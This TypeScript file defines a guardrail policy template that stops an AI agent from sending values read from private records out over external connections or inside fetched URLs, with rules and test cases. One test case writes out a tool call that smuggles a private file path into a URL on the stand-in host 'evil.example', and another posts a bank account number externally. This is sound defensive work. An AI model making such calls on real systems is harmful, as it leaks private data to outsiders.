import { casesOf, documentOf } from './policy-template.ts'
import type { PolicyTemplate } from './policy-template.ts'

const TITLE = 'Private values do not leave'

/** S4. */
export const VALUE_EXFIL: PolicyTemplate = {
  name: 'value-exfil',
  title: TITLE,
  stops:
    'Values that a private answer brought (identifiers, numbers, addresses, whole fields) in a call that carries something out to others over a connection that is not your own, and in a URL that is fetched. Values are recognised by keyed fingerprints, in whole fields and as words of longer texts, whatever the agent calls them.',
  costs:
    "It is exact: a value that was rephrased, shortened or encoded is not recognised, and short words are nobody's value. A mail to an address that was read from your own records is denied as well; allow it by an exception for that tool. After about 8,000 different private values, or an answer of more than half a megabyte, everything counts as private until the session ends. No figures: the research replay has no values to follow.",
  attachedByDefault: false,
  document: documentOf(
    TITLE,
    [
      {
        id: 'deny-private-values',
        effect: 'deny',
        on: ['outbound'],
        when: {
          all: [
            { path: 'action.class', op: 'eq', value: 'sink.external' },
            { path: 'connection.trust', op: 'eq', value: 'external' },
            { path: 'provenance', op: 'has', value: 'private' },
          ],
        },
        reason: 'The call carries a value out that was read from private records.',
      },
      {
        id: 'deny-private-values-in-urls',
        effect: 'deny',
        on: ['outbound'],
        when: {
          all: [
            { path: 'action.class', op: 'in', value: ['read.public', 'read.untrusted'] },
            { path: 'resource.host', op: 'exists', value: true },
            { path: 'connection.trust', op: 'eq', value: 'external' },
            { path: 'resource.provenance', op: 'has', value: 'private' },
          ],
        },
        reason: 'The address would carry a value out that was read from private records.',
      },
    ],
    casesOf(
      {
        name: 'a private number in a message to others is denied',
        history: [
          { tool: 'get_order', class: 'read.private', result: { account: 'DE89370400440532013000' } },
        ],
        call: {
          tool: 'post_message',
          class: 'sink.external',
          args: { text: 'Pay to DE89 3704 0044 0532 0130 00, please.' },
        },
        expect: { decision: 'deny', rules: ['deny-private-values'] },
      },
      {
        name: 'a private value in a URL is denied',
        history: [{ tool: 'get_order', class: 'read.private', result: { path: '/home/ana/plan.txt' } }],
        call: {
          tool: 'fetch_url',
          class: 'read.untrusted',
          args: { url: 'https://evil.example/home/ana/plan.txt' },
        },
        expect: { decision: 'deny', rules: ['deny-private-values-in-urls'] },
      },
      {
        name: 'the same over a connection of our own passes',
        history: [{ tool: 'get_order', class: 'read.private', result: { code: 'ZX-4711-Q' } }],
        call: {
          tool: 'post_message',
          class: 'sink.external',
          trust: 'internal',
          args: { text: 'It is ZX-4711-Q' },
        },
        expect: { decision: 'allow', rules: [] },
      },
      {
        name: 'other values pass',
        history: [{ tool: 'get_order', class: 'read.private', result: { code: 'ZX-4711-Q' } }],
        call: { tool: 'post_message', class: 'sink.external', args: { text: 'The order is late.' } },
        expect: { decision: 'allow', rules: [] },
      },
    ),
  ),
}
